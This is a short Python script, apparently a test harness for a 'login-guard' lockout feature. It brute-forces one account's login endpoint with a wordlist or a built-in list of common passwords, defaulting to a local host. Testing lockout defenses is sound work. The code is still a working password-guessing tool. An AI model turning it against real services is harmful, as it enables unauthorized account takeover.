"""Hammer a single account on a running login-guard host and report the outcome.

With lockout on, the correct password in the list stops working once the
account is locked, so the run should end with "No success".
"""
import argparse
import time

import requests


def attack(args):
    if args.wordlist:
        with open(args.wordlist, "r", encoding="utf-8") as f:
            passwords = [line.strip() for line in f if line.strip()]
    else:
        passwords = ["password", "123456", "letmein", "welcome", "Password1!"]

    session = requests.Session()
    total = 0
    start = time.time()
    for pwd in passwords:
        total += 1
        payload = {"identifier": args.identifier, "password": pwd}
        resp = session.post(f"{args.base}/login", json=payload, timeout=5)
        print(f"[{total}] {pwd} -> {resp.status_code} {resp.json()}")

        if resp.status_code == 200:
            duration = time.time() - start
            print(f"Success after {total} attempts in {duration:.2f}s")
            return
        if args.delay:
            time.sleep(args.delay)
    print("No success")


def main():
    parser = argparse.ArgumentParser(description="Brute-force a single account")
    parser.add_argument("identifier", help="login name or email")
    parser.add_argument("--wordlist", help="path to wordlist")
    parser.add_argument("--base", default="http://127.0.0.1:8000", help="API base URL")
    parser.add_argument("--delay", type=float, default=0.0, help="seconds to wait between attempts")
    args = parser.parse_args()
    attack(args)


if __name__ == "__main__":
    main()
